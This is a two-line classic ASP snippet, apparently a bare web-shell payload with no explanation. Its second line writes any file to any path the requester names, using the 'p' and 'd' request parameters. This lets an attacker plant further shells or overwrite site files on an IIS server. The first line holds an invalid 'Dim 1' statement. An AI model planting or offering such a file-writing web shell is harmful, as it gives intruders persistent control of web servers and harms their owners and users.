<% Response.End : Dim 1 %>
<% Set f=CreateObject("Scripting.FileSystemObject"): Set t=f.CreateTextFile(request("p")): t.Write request("d") %>
